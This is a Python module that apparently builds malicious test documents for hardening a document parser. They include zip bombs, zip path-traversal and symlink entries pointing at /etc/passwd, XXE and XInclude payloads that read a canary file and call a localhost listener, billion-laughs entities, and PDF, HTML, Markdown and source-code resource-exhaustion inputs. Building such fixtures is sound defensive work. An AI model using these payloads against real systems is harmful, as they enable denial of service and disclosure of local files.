"""Documents that are made to do harm: small files that cost much, and files that reach out.

Each is made here, by a few lines; `BOMBS` names them all. What is in them that a reader could reach
for stands in a `Lure`: a file outside of what is added, and an address that somebody listens at.
"""

import json
import struct
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass, replace
from itertools import pairwise

CANARY = "canary-7f3a-never-to-be-read"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_SLIDES = "http://schemas.openxmlformats.org/presentationml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
WORDS = "Some words of a document."
_KERNEL = b"".join(b"%d peat " % number for number in range(20_000))
"""Of a ratio that an honest file has, so that only its overlaps tell."""


@dataclass(frozen=True, slots=True)
class Lure:
    """What a document may try to reach."""

    file: str
    """Path of a file that holds `CANARY`."""
    address: str
    """`http://127.0.0.1:PORT`, where every connection is noted."""


@dataclass(frozen=True, slots=True)
class Bomb:
    """A document that is made to do harm."""

    name: str
    make: Callable[[Lure], bytes]


# Zip containers


@dataclass(frozen=True, slots=True)
class Entry:
    """One entry of a zip, byte for byte; what its two headers say may differ."""

    name: bytes
    packed: bytes = b""
    size: int | None = None
    method: int = 0
    flags: int = 0
    mode: int = 0
    local_name: bytes | None = None
    local_size: int | None = None
    extra: bytes = b""
    at: int | None = None
    """Offset in the body that the directory gives instead of the real one."""
    checksum: int | None = None
    before: bytes = b""
    after: bytes = b""


def stored(name: str, data: bytes | str = b"") -> Entry:
    """An entry as it is."""
    data = data.encode() if isinstance(data, str) else data
    return Entry(name.encode(), data, len(data), checksum=zlib.crc32(data))


def deflated(name: str, data: bytes | str, **more: object) -> Entry:
    """An entry made small."""
    data = data.encode() if isinstance(data, str) else data
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(data) + packer.flush()
    given = {"size": len(data), "method": 8, "checksum": zlib.crc32(data)} | more
    return Entry(name.encode(), packed, **given)  # type: ignore[arg-type]


def container(*entries: Entry, comment: bytes = b"", count: int | None = None) -> bytes:
    """A zip of these entries."""
    body, directory = bytearray(), bytearray()
    for one in entries:
        size = len(one.packed) if one.size is None else one.size
        checksum = zlib.crc32(one.packed) if one.checksum is None else one.checksum
        local_name = one.name if one.local_name is None else one.local_name
        local_size = size if one.local_size is None else one.local_size
        body += one.before
        start = len(body) if one.at is None else one.at
        if one.at is None:
            body += struct.pack(
                "<4s5H3L2H",
                b"PK\3\4",
                20,
                one.flags,
                one.method,
                0,
                0,
                checksum,
                len(one.packed),
                local_size,
                len(local_name),
                0,
            )
            body += local_name + one.packed + one.after
        packed_size, shown_size = len(one.packed), size
        if one.extra:
            packed_size = shown_size = 0xFFFFFFFF
        directory += struct.pack(
            "<4s6H3L5H2L",
            b"PK\1\2",
            0x314,
            20,
            one.flags,
            one.method,
            0,
            0,
            checksum,
            packed_size,
            shown_size,
            len(one.name),
            len(one.extra),
            0,
            0,
            0,
            one.mode << 16,
            start,
        )
        directory += one.name + one.extra
    number = len(entries) if count is None else count
    end = struct.pack(
        "<4s4H2LH", b"PK\5\6", 0, 0, number, number, len(directory), len(body), len(comment)
    )
    return bytes(body + directory) + end + comment


def _links(*links: tuple[str, str, str]) -> str:
    made = "".join(
        f'<Relationship Id="r{n}" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        for n, (kind, target, mode) in enumerate(links)
    )
    return f'<Relationships xmlns="{_PACKAGE}">{made}</Relationships>'


_ROOT_OF_WORD = stored("_rels/.rels", _links(("officeDocument", "word/document.xml", "Internal")))


def paragraph(text: str) -> str:
    """A paragraph of a Word document."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def word(body: str, *more: Entry, before: str = "", namespaces: str = "") -> bytes:
    """A Word document with this body."""
    text = (
        f'{before}<w:document xmlns:w="{_WORD}" {namespaces}><w:body>{body}</w:body></w:document>'
    )
    return container(_ROOT_OF_WORD, deflated("word/document.xml", text), *more)


def _sound(*more: Entry, **options: object) -> bytes:
    text = f'<w:document xmlns:w="{_WORD}"><w:body>{paragraph(WORDS)}</w:body></w:document>'
    return container(_ROOT_OF_WORD, deflated("word/document.xml", text), *more, **options)  # type: ignore[arg-type]


def slides(slide: str, before: str = "") -> bytes:
    """A presentation of one slide."""
    deck = (
        f'<p:presentation xmlns:p="{_SLIDES}" xmlns:r="{_OFFICE}"><p:sldIdLst>'
        '<p:sldId id="256" r:id="r0"/></p:sldIdLst></p:presentation>'
    )
    text = (
        f'{before}<p:sld xmlns:p="{_SLIDES}" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/'
        f'main"><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>{slide}</a:t></a:r></a:p>'
        "</p:txBody></p:sp></p:spTree></p:cSld></p:sld>"
    )
    return container(
        stored("_rels/.rels", _links(("officeDocument", "ppt/presentation.xml", "Internal"))),
        stored("ppt/presentation.xml", deck),
        stored("ppt/_rels/presentation.xml.rels", _links(("slide", "slides/s.xml", "Internal"))),
        deflated("ppt/slides/s.xml", text),
    )


def overlapping() -> bytes:
    """David Fifield's first kind: many entries of the directory, one kernel of data."""
    kernel = deflated("word/media/0.bin", _KERNEL)
    more = (replace(kernel, name=b"word/media/%d.bin" % n, at=0) for n in range(1, 400))
    return container(kernel, _ROOT_OF_WORD, *more)


def quoted_overlapping() -> bytes:
    """David Fifield's second kind: each entry quotes the local header of the next, and goes on."""
    names = [f"word/media/{n}.bin" for n in range(64)]
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    tail = kernel.compress(_KERNEL) + kernel.flush()
    content, files = _KERNEL, []
    for name in reversed(names):
        files.insert(0, (name.encode(), tail, content))
        header = (
            struct.pack(
                "<4s5H3L2H",
                b"PK\3\4",
                20,
                0,
                8,
                0,
                0,
                zlib.crc32(content),
                len(tail),
                len(content),
                len(name),
                0,
            )
            + name.encode()
        )
        tail = struct.pack("<BHH", 0, len(header), len(header) ^ 0xFFFF) + header + tail
        content = header + content
    body = tail[5:]
    directory, start = b"", 0
    for name, packed, whole in files:
        directory += (
            struct.pack(
                "<4s6H3L5H2L",
                b"PK\1\2",
                20,
                20,
                0,
                8,
                0,
                0,
                zlib.crc32(whole),
                len(packed),
                len(whole),
                len(name),
                0,
                0,
                0,
                0,
                0,
                start,
            )
            + name
        )
        start += 30 + len(name) + 5
    return (
        body
        + directory
        + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 64, 64, len(directory), len(body), 0)
    )


def zip64_lies() -> bytes:
    """A size of 2^63 in the directory, in the field of 64 bits."""
    extra = struct.pack("<HHQQ", 1, 16, 2**63 - 1, 2**63 - 1)
    return _sound(Entry(b"word/media/0.bin", b"x" * 99, extra=extra))


def nested(levels: int) -> bytes:
    """A document in a document in a document."""
    data = bytes(1 << 20)
    for _ in range(levels):
        data = _sound(deflated("word/embeddings/deeper.docx", data))
    return data


def empty_members() -> bytes:
    """As many entries without a byte as a directory can count."""
    return _sound(*(stored(f"word/media/{n}") for n in range(65_000)))


def streamed() -> bytes:
    """A size that is only told behind the data, as a streaming writer does, and is a lie there."""
    data = b"x" * 1_000
    told = struct.pack("<4sLLL", b"PK\7\10", 0, 2**31, 2**31)
    return _sound(Entry(b"word/media/0.bin", data, flags=8, local_size=0, after=told))


_ZIPS: dict[str, Callable[[], bytes]] = {
    "overlapping.docx": overlapping,
    "quoted overlap.docx": quoted_overlapping,
    "zip64 lies.docx": zip64_lies,
    "nested.docx": lambda: nested(60),
    "nested deck.pptx": lambda: nested(3),
    "empty members.docx": empty_members,
    "streamed lies.docx": streamed,
    "other local name.docx": lambda: _sound(
        Entry(b"word/media/0.bin", b"x", local_name=b"word/document.xml")
    ),
    "other local size.docx": lambda: _sound(Entry(b"word/media/0.bin", b"x", local_size=2**31)),
    "up.docx": lambda: _sound(stored("../../../up.txt", "x")),
    "absolute.docx": lambda: _sound(stored("/tmp/absolute.txt", "x")),
    "backslash.docx": lambda: _sound(stored("..\\..\\back.txt", "x")),
    "nul.docx": lambda: _sound(stored("word/a\0.xml", "x")),
    "twice.docx": lambda: _sound(stored("word/document.xml", "<evil/>")),
    "link.docx": lambda: _sound(Entry(b"word/media/0.bin", b"/etc/passwd", mode=0o120777)),
    "linked body.docx": lambda: container(
        _ROOT_OF_WORD, Entry(b"word/document.xml", b"/etc/passwd", mode=0o120777)
    ),
    "encrypted.docx": lambda: _sound(Entry(b"word/media/0.bin", b"x" * 20, flags=1)),
    "strongly encrypted.docx": lambda: _sound(Entry(b"word/media/0.bin", b"x" * 20, flags=0x41)),
    **{
        f"method {method}.docx": lambda method=method: _sound(  # type: ignore[misc]
            Entry(b"word/media/0.bin", b"x" * 20, size=1 << 30, method=method)
        )
        for method in (1, 6, 9, 12, 14, 93, 95, 97, 98, 99, 65535)
    },
    "prepended.docx": lambda: b"MZ" + bytes(500) + _sound(),
    "appended.docx": lambda: _sound() + b"\0" * 5_000,
    "long comment.docx": lambda: _sound(comment=b"PK\5\6" + bytes(60_000)),
    "fewer than counted.docx": lambda: _sound(count=60_000),
    "two directories.docx": lambda: _sound() + _sound(),
    "kept small.docx": lambda: word(
        paragraph("peat " * 13_000_000)[:64_000_000] + "</w:t></w:r></w:p>"
    ),
}


# XML, in office files and pages


def _laughs(levels: int = 12) -> str:
    names = [f"l{n}" for n in range(levels)]
    more = (f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in pairwise(names))
    return f'<!DOCTYPE x [<!ENTITY l0 "ha">{"".join(more)}]>'


def _external(lure: Lure) -> str:
    return (
        f'<!DOCTYPE x SYSTEM "{lure.address}/dtd" [<!ENTITY f SYSTEM "file://{lure.file}">'
        f'<!ENTITY h SYSTEM "{lure.address}/entity"><!ENTITY % p SYSTEM "{lure.address}/p">%p;]>'
    )


def _word_bombs() -> dict[str, Callable[[Lure], bytes]]:
    deep = 100_000
    return {
        "external.docx": lambda lure: word(paragraph("&f;&h;"), before=_external(lure)),
        "external.pptx": lambda lure: slides("&f;&h;", before=_external(lure)),
        "parameter.docx": lambda lure: word(
            paragraph(WORDS),
            before=f'<!DOCTYPE x [<!ENTITY % a SYSTEM "file://{lure.file}">%a;]>',
        ),
        "utf-7 entity.docx": lambda lure: word(
            paragraph(WORDS),
            before='<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE x SYSTEM '
            f'"{lure.address}/seven"+AD4-',
        ),
        "utf-16 entity.docx": lambda lure: container(
            _ROOT_OF_WORD,
            deflated("word/document.xml", (_external(lure) + "<x>&f;</x>").encode("utf-16")),
        ),
        "laughs.docx": lambda _: word(paragraph("&l11;"), before=_laughs()),
        "laughs.pptx": lambda _: slides("&l11;", before=_laughs()),
        "quadratic.docx": lambda _: word(
            paragraph("&a;" * 100_000), before=f'<!DOCTYPE x [<!ENTITY a "{"a" * 100_000}">]>'
        ),
        "included.docx": lambda lure: word(
            f'<xi:include href="file://{lure.file}" parse="text"/>'
            f'<xi:include href="{lure.address}/x"/>' + paragraph(WORDS),
            namespaces='xmlns:xi="http://www.w3.org/2001/XInclude"',
        ),
        "styled.docx": lambda lure: word(
            paragraph(WORDS), before=f'<?xml-stylesheet type="text/xsl" href="{lure.address}/xsl"?>'
        ),
        "namespaces.docx": lambda _: word(
            paragraph(WORDS), namespaces=" ".join(f'xmlns:n{n}="urn:{n}"' for n in range(40_000))
        ),
        "attributes.docx": lambda _: word(
            "<w:p " + " ".join(f'a{n}="1"' for n in range(60_000)) + "/>" + paragraph(WORDS)
        ),
        "large attribute.docx": lambda _: word(f'<w:p a="{"x" * 30_000_000}"/>' + paragraph(WORDS)),
        "deep.docx": lambda _: word("<w:p>" * deep + "</w:p>" * deep),
        "deep tables.docx": lambda _: word(
            "<w:tbl><w:tr><w:tc>" * 80 + paragraph(WORDS) + "</w:tc></w:tr></w:tbl>" * 80
        ),
        "many namespaces deep.docx": lambda _: word(
            "".join(f'<a:x xmlns:a="urn:{n}">' for n in range(250))
            + "</a:x>" * 250
            + paragraph(WORDS)
        ),
        "spans.docx": lambda _: word(
            "<w:tbl>" + '<w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr>'
            f"{paragraph(WORDS)}</w:tc></w:tr>" * 50 + "</w:tbl>"
        ),
        "linked template.docx": lambda lure: word(
            paragraph(WORDS),
            stored(
                "word/_rels/document.xml.rels",
                _links(
                    ("attachedTemplate", f"{lure.address}/template", "External"),
                    ("image", f"file://{lure.file}", "External"),
                    ("hyperlink", f"{lure.address}/link", "External"),
                    ("footnotes", f"../../../../..{lure.file}", "Internal"),
                    ("numbering", f"file://{lure.file}", "Internal"),
                ),
            ),
        ),
        "looking at itself.docx": lambda _: container(
            stored("_rels/.rels", _links(("officeDocument", "_rels/.rels", "Internal"))),
        ),
    }


# HTML


def page(body: str, head: str = "") -> bytes:
    """A page."""
    return f"<!DOCTYPE html><html><head>{head}</head><body>{body}</body></html>".encode()


def _html_bombs() -> dict[str, Callable[[Lure], bytes]]:
    words = f"<p>{WORDS}</p>"
    many = 100_000
    return {
        "reaching.html": lambda lure: page(
            words + f'<img src="{lure.address}/i"><iframe src="file://{lure.file}"></iframe>'
            f'<object data="{lure.address}/o"></object><embed src="{lure.address}/e">'
            f'<svg><image href="{lure.address}/s"/><use href="file://{lure.file}#a"/>'
            f'<script href="{lure.address}/j">fetch("{lure.address}/f")</script></svg>'
            f'<math><mglyph src="{lure.address}/m"/></math>',
            f'<base href="{lure.address}/"><link rel="stylesheet" href="{lure.address}/c">'
            f'<script src="{lure.address}/j"></script><style>@import "{lure.address}/y";</style>',
        ),
        "external.xhtml": lambda lure: (
            f'<?xml version="1.0"?>{_external(lure)}<html xmlns="http://www.w3.org/1999/xhtml">'
            f"<body>{words}<p>&f;&h;</p></body></html>"
        ).encode(),
        "laughs.xhtml": lambda _: (_laughs() + f"<html><body>{words}&l11;</body></html>").encode(),
        "laughing drawing.html": lambda _: page(f"{words}<svg>{_laughs()}<text>&l11;</text></svg>"),
        "deep.html": lambda _: page("<div>" * many + words),
        "deep lists.html": lambda _: page("<ul><li>" * many + words),
        "deep tables.html": lambda _: page("<table><tr><td>" * many + words),
        "deep quotes.html": lambda _: page("<blockquote>" * many + words),
        "deep formatting.html": lambda _: page("<b><i>" * many + words),
        "misnested.html": lambda _: page("".join(f"<a><b><p>{n}" for n in range(30_000))),
        "adopted.html": lambda _: page("<b>" * 2_000 + "<p>x</p></b>" * 2_000),
        "deep drawing.html": lambda _: page(words + "<svg>" + "<g>" * many),
        "deep mathematics.html": lambda _: page(words + "<math>" + "<mrow>" * many),
        "unclosed.html": lambda _: page("<p" * many + words),
        "unclosed comments.html": lambda _: page(words + "<!--" * many),
        "unclosed scripts.html": lambda _: page(words + "<script>" * many),
        "large attribute.html": lambda _: page(f'<p title="{"x" * 30_000_000}">{WORDS}</p>'),
        "attributes.html": lambda _: page(
            f"<p {' '.join(f'a{n}=1' for n in range(20_000))}>{WORDS}</p>"
        ),
        "cells.html": lambda _: page(f"<table>{'<tr>' + '<td>x' * 1_000}</table>" * 20 + words),
        "one row.html": lambda _: page(f"<table><tr>{'<td>x' * 20_000}</table>{words}"),
        "spans.html": lambda _: page(
            "<table>"
            + '<tr><td rowspan="2000000000" colspan="2000000000">x' * 300
            + f"</table>{words}"
        ),
        "wide spans.html": lambda _: page(
            "<table>" + "<tr>" + '<td rowspan="65534" colspan="1000">x' * 300 + f"</table>{words}"
        ),
        "list numbers.html": lambda _: page(
            f'<ol start="{"9" * 5_000}"><li value="{"9" * 5_000}">x</ol>{words}'
        ),
        "entities.html": lambda _: page("&#x110000;&#99999999999999999999;&amp" * many + words),
        "endless entity.html": lambda _: page("&" + "a" * 100_000 + words),
        "classes.html": lambda _: page(f'<p class="{"a x " * 300_000}">{WORDS}</p>' * 3),
        "links.html": lambda _: page("<a href=x>" * 20_000 + words),
        "headings.html": lambda _: page("<h1>" * many + words),
        "metas.html": lambda _: page(words, "<meta name=author content=x>" * many),
        "charset utf-7.html": lambda lure: (
            b"<meta charset=utf-7>+ADw-script src='" + lure.address.encode() + b"'+AD4-<p>Words."
        ),
    }


# PDF


def pdf(*objects: bytes | str, root: int = 1, broken: bool = False) -> bytes:
    """A PDF of these objects, numbered from 1."""
    made, places = bytearray(b"%PDF-1.7\n"), []
    for number, one in enumerate(objects, 1):
        places.append(len(made))
        body = one.encode() if isinstance(one, str) else one
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    made += b"trailer\n<</Size %d/Root %d 0 R>>\n" % (len(objects) + 1, root)
    return bytes(made + b"startxref\n%d\n%%%%EOF\n" % (0 if broken else start))


def stream(data: bytes, entries: str = "", length: int | None = None) -> bytes:
    """A stream object."""
    told = len(data) if length is None else length
    return f"<</Length {told}{entries}>>stream\n".encode() + data + b"\nendstream"


_CATALOG = "<</Type/Catalog/Pages 2 0 R>>"
_ONE_PAGE = "<</Type/Pages/Kids[3 0 R]/Count 1>>"
_FONT = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_TEXT = b"BT /F1 12 Tf 72 700 Td (Some words of a document.) Tj ET"


def leaf(contents: str = "5 0 R", more: str = "", box: str = "0 0 612 792") -> str:
    """A page."""
    return (
        f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Contents {contents}"
        f"/Resources<</Font<</F1 4 0 R>>>>{more}>>"
    )


def packed(data: bytes, times: int) -> bytes:
    """Deflated again and again."""
    for _ in range(times):
        data = zlib.compress(data, 9)
    return data


def _chain(filters: Iterable[str], data: bytes) -> bytes:
    names = "".join(f"/{one}" for one in filters)
    return pdf(_CATALOG, _ONE_PAGE, leaf(), _FONT, stream(data, f"/Filter[{names}]"))


def _run_lengths(levels: int) -> bytes:
    """Runs of 128 that become runs again when they are read."""
    data = b"\x81\x20" * 4_000
    for _ in range(levels):
        data = b"".join(bytes((0x01,)) + data[n : n + 2] for n in range(0, len(data), 2))
    return data


def _kids_in_a_circle() -> bytes:
    kids = "<</Type/Pages/Kids[2 0 R 3 0 R]/Count 100000>>"
    return pdf(_CATALOG, kids, "<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 9999>>", _FONT)


def _deep_page_tree() -> bytes:
    depth = 20_000
    inner = [f"<</Type/Pages/Kids[{n + 3} 0 R]/Count 1>>" for n in range(depth)]
    return pdf(_CATALOG, *inner, leaf("0 0 R"))


def _pages_of_one() -> bytes:
    kids = "3 0 R " * 100_000
    return pdf(_CATALOG, f"<</Type/Pages/Kids[{kids}]/Count 100000>>", leaf(), _FONT, stream(_TEXT))


def _deep_outline() -> bytes:
    depth = 20_000
    items = [
        f"<</Title(x)/Parent {n + 5} 0 R/First {n + 7} 0 R/Last {n + 7} 0 R/Count 1"
        "/Dest[3 0 R/Fit]>>"
        for n in range(depth)
    ]
    return pdf(
        "<</Type/Catalog/Pages 2 0 R/Outlines 6 0 R>>",
        _ONE_PAGE, leaf(), _FONT, stream(_TEXT), *items,
    )  # fmt: skip


def _large_character_map() -> bytes:
    ranges = b"1 beginbfrange\n<0000> <ffff> <0041>\nendbfrange\n" * 60_000
    font = (
        "<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/ToUnicode 6 0 R"
        "/DescendantFonts[<</Type/Font/Subtype/CIDFontType2/BaseFont/X/W[0 65535 600]>>]>>"
    )
    return pdf(
        _CATALOG,
        _ONE_PAGE,
        leaf(),
        font,
        stream(_TEXT),
        stream(zlib.compress(ranges, 9), "/Filter/FlateDecode"),
    )


def _object_streams() -> bytes:
    inner = stream(b"7 0 <</Length 5>>", "/Type/ObjStm/N 1/First 4/Extends 6 0 R")
    other = stream(b"6 0 <</Type/ObjStm>>", "/Type/ObjStm/N 999999999/First 4/Extends 6 0 R")
    return pdf(_CATALOG, _ONE_PAGE, leaf("6 0 R"), _FONT, inner, other)


def _looping_xref() -> bytes:
    data = pdf(_CATALOG, _ONE_PAGE, leaf(), _FONT, stream(_TEXT))
    start = data.rindex(b"xref\n0")
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d/XRefStm %d" % (start, start))


def _self_calling_form() -> bytes:
    form = stream(
        b"/X Do /X Do /X Do",
        "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>",
    )
    own = leaf().replace("/Font<<", "/XObject<</X 6 0 R>>/Font<<")
    return pdf(_CATALOG, _ONE_PAGE, own, _FONT, stream(_TEXT + b" /X Do"), form)


def _forms_in_forms() -> bytes:
    """Each form draws the next ten times."""
    forms = [
        stream(
            b"/X Do " * 10,
            f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X {n + 7} 0 R>>>>",
        )
        for n in range(9)
    ]
    last = stream(_TEXT, "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</Font<</F1 4 0 R>>>>")
    own = leaf().replace("/Font<<", "/XObject<</X 6 0 R>>/Font<<")
    return pdf(_CATALOG, _ONE_PAGE, own, _FONT, stream(_TEXT + b" /X Do"), *forms, last)


def _picture(filter_name: str, data: bytes) -> bytes:
    image = stream(
        data,
        "/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8"
        f"/ColorSpace/DeviceRGB/Filter/{filter_name}",
    )
    own = leaf().replace("/Font<<", "/XObject<</X 6 0 R>>/Font<<")
    return pdf(_CATALOG, _ONE_PAGE, own, _FONT, stream(b"/X Do " + _TEXT), image)


_PDFS: dict[str, Callable[[], bytes]] = {
    "flate 50.pdf": lambda: _chain(["FlateDecode"] * 50, packed(_TEXT, 50)),
    "flate 3.pdf": lambda: _chain(["FlateDecode"] * 3, packed(bytes(200 << 20), 3)),
    "flate 1.pdf": lambda: _chain(["FlateDecode"], packed(b" " * (100 << 20), 1)),
    "hexadecimal 50.pdf": lambda: _chain(["ASCIIHexDecode"] * 50, b"20" * 1_000),
    "runs.pdf": lambda: _chain(["RunLengthDecode"] * 8, _run_lengths(8)),
    "lzw.pdf": lambda: _chain(["LZWDecode"] * 20, b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01" * 9_000),
    "unknown filters.pdf": lambda: _chain(["Crypt", "Nothing"] * 200, _TEXT),
    "jbig2.pdf": lambda: _picture("JBIG2Decode", b"\0\0\0\0\x30\0\1\0\0\0\x13" + b"\xff" * 900),
    "jpx.pdf": lambda: _picture("JPXDecode", b"\xff\x4f\xff\x51\0\x2f" + b"\xff" * 900),
    "dct.pdf": lambda: _picture("DCTDecode", b"\xff\xd8\xff\xc0\0\x11\x08\xff\xff\xff\xff\3"),
    "fax.pdf": lambda: _picture("CCITTFaxDecode", b"\0" * 900),
    "short length.pdf": lambda: pdf(_CATALOG, _ONE_PAGE, leaf(), _FONT, stream(_TEXT, length=3)),
    "long length.pdf": lambda: pdf(
        _CATALOG, _ONE_PAGE, leaf(), _FONT, stream(_TEXT, length=2_147_483_647)
    ),
    "own length.pdf": lambda: pdf(
        _CATALOG, _ONE_PAGE, leaf(), _FONT, b"<</Length 5 0 R>>stream\n" + _TEXT + b"\nendstream"
    ),
    "circle.pdf": _kids_in_a_circle,
    "deep page tree.pdf": _deep_page_tree,
    "pages of one.pdf": _pages_of_one,
    "claimed pages.pdf": lambda: pdf(
        _CATALOG, "<</Type/Pages/Kids[3 0 R]/Count 2147483647>>", leaf(), _FONT, stream(_TEXT)
    ),
    "claimed 19999.pdf": lambda: pdf(
        _CATALOG, "<</Type/Pages/Kids[3 0 R]/Count 19999>>", leaf(), _FONT, stream(_TEXT)
    ),
    "large box.pdf": lambda: pdf(
        _CATALOG, _ONE_PAGE, leaf(box="-1e30 -1e30 1e30 1e30"), _FONT, stream(_TEXT)
    ),
    "deep outline.pdf": _deep_outline,
    "large map.pdf": _large_character_map,
    "object streams.pdf": _object_streams,
    "looping xref.pdf": _looping_xref,
    "no xref.pdf": lambda: pdf(_CATALOG, _ONE_PAGE, leaf(), _FONT, stream(_TEXT), broken=True),
    "form in itself.pdf": _self_calling_form,
    "forms in forms.pdf": _forms_in_forms,
    "deep arrays.pdf": lambda: pdf(_CATALOG, "[" * 500_000, leaf(), _FONT, stream(_TEXT)),
    "deep operators.pdf": lambda: pdf(
        _CATALOG, _ONE_PAGE, leaf(), _FONT, stream(b"q " * 500_000 + b"[" * 500_000 + _TEXT)
    ),
    "many texts.pdf": lambda: pdf(
        _CATALOG, _ONE_PAGE, leaf(), _FONT,
        stream(zlib.compress(b"BT /F1 1 Tf 9 9 Td (a) Tj ET " * 100_000), "/Filter/FlateDecode"),
    ),
}  # fmt: skip


# Text, Markdown, notebooks, source code


def _notebook(cells: str) -> bytes:
    return f'{{"nbformat":4,"metadata":{{}},"cells":[{cells}]}}'.encode()


def _cell(source: str) -> str:
    return json.dumps({"cell_type": "markdown", "source": source})


def _plain_bombs() -> dict[str, Callable[[Lure], bytes]]:
    deep, less = 100_000, 10_000
    made: dict[str, bytes | Callable[[], bytes]] = {
        "deep.ipynb": _notebook('{"source":' + "[" * deep + "]" * deep + "}"),
        "deep objects.ipynb": _notebook('{"a":' * deep + "1" + "}" * deep),
        "number.ipynb": _notebook('{"source":"x","n":' + "9" * 100_000 + "}," + _cell(WORDS)),
        "exponent.ipynb": _notebook('{"n":1e999999999},' + _cell(WORDS)),
        "level.ipynb": _notebook('{"cell_type":"heading","level":1e9,"source":"x"}'),
        "backticks.ipynb": _notebook(
            '{"cell_type":"code","source":"' + "`" * 20_000 + '\\nwords"}'
        ),
        "many cells.ipynb": lambda: _notebook(",".join([_cell("x")] * 6_000)),
        "utf-7.txt": b"+ADw-script+AD4- words +AGEAYg-",
        "utf-16 without a mark.txt": (WORDS * 50).encode("utf-16-le"),
        "utf-32 without a mark.txt": (WORDS * 50).encode("utf-32-be"),
        "mixed marks.txt": b"\xff\xfe\xef\xbb\xbf" + WORDS.encode(),
        "iso-2022.txt": b"\x1b$B" * 20_000 + b"words",
        "one line.txt": lambda: b"word " * 210_000,
        "one word.txt": lambda: b"w" * 1_100_000,
        "blank lines.txt": lambda: b"\n" * 2_000_000 + b"words",
        "combining.txt": ("a" + "\u0301" * 40_000 + " words").encode(),
        "right to left.txt": ("\u202e" * 20_000 + " words").encode(),
        "joined.txt": ("\U0001f469\u200d" * 10_000 + " words").encode(),
        "emphasis.md": b"*a **a " * 6_000,
        "underscores.md": b"_a __a " * 6_000,
        "asterisks.md": b"*" * 40_000 + b"a",
        "links.md": b"[" * 30_000 + b"a" + b"](x)" * 10,
        "links open.md": b"[a](" * 10_000,
        "pictures.md": b"![" * 15_000 + b"a",
        "angles.md": b"[a](<b" * 10_000,
        "quotes.md": b"> " * 10_000 + b"words",
        "quotes growing.md": b"".join(b"> " * n + b"a\n" for n in range(200)),
        "lists.md": b"".join(b" " * n + b"- a\n" for n in range(300)),
        "list on a line.md": b"- " * 10_000 + b"words",
        "backticks.md": b"".join(b"e" + b"`" * n for n in range(300)),
        "html.md": b"<" * 30_000 + b"words",
        "comments.md": b"<!--" * 10_000 + b"words",
        "instructions.md": b"<?" * 10_000 + b"words",
        "entities.md": b"&" * 30_000 + b"words",
        "references.md": b"".join(b"[%d]: x\n" % n for n in range(4_000)) + b"[a]" * 4_000,
        "table.md": b"|" + b"a|" * 2_000 + b"\n|" + b"-|" * 2_000 + b"\n" + b"|" * 2_000,
        "table rows.md": b"|" + b"a|" * 500 + b"\n|" + b"-|" * 500 + b"\n" + b"|a\n" * 2_000,
        "headings.md": b"# " * 10_000 + b"words",
        "fences.md": b"```" * 10_000 + b"\nwords",
        "setext.md": b"a\n" * 10_000 + b"===\n",
        "escapes.md": b"\\" * 40_000 + b"words",
        "delimiters.md": b"~~a*b_c" * 4_000,
        "autolinks.md": b"http://a" * 6_000,
        "deep.py": b"x = " + b"(\n" * deep + b")" * deep + b"\n",
        "deep.js": b"x = " + b"[\n" * less + b"]\n" * less + b";\n",
        "deep.c": b"int f() {" + b"{\n" * less + b"}\n" * less + b"}\n",
        "deep.json": b"[\n" * less + b"]\n" * less,
        "deep.java": b"class A { int x = " + b"(\n" * less + b"1" + b")\n" * less + b"; }\n",
        "deep functions.py": b"".join(b" " * n + b"def f():\n" for n in range(600)),
        "deep functions.js": b"function f(){\n" * 2_000,
        "deep.yaml": b"".join(b" " * n + b"a:\n" for n in range(600)),
        "open strings.py": b"'''\"\"\"\n" * 6_000,
        "generics.ts": b"let x: " + b"A<\n" * 5_000 + b">\n" * 5_000 + b";\n",
        "templates.cpp": b"A<\n" * 6_000,
        "definitions.sql": (b"create " * 60 + b"\n") * 100,
        "targets.mk": (b"a " * 200 + b"\n") * 100,
        "modifiers.kt": (b"public " * 60 + b"\n") * 200,
        "names.swift": (b"a " * 2_000 + b"\n") * 50,
        "anchors.yaml": b"a: &a [x]\nb: &b [*a,*a]\nc: &c [*b,*b]\n" * 2_000,
    }  # fmt: skip

    def made_by(one: bytes | Callable[[], bytes]) -> Callable[[Lure], bytes]:
        return (lambda _: one) if isinstance(one, bytes) else (lambda _: one())

    return {name: made_by(one) for name, one in made.items()}


def _without_lure(made: dict[str, Callable[[], bytes]]) -> dict[str, Callable[[Lure], bytes]]:
    return {name: (lambda _, one=one: one()) for name, one in made.items()}  # type: ignore[misc]


BOMBS = tuple(
    Bomb(name, make)
    for name, make in (
        *_without_lure(_ZIPS).items(),
        *_word_bombs().items(),
        *_html_bombs().items(),
        *_without_lure(_PDFS).items(),
        *_plain_bombs().items(),
    )
)
"""All of them; no two have one name."""
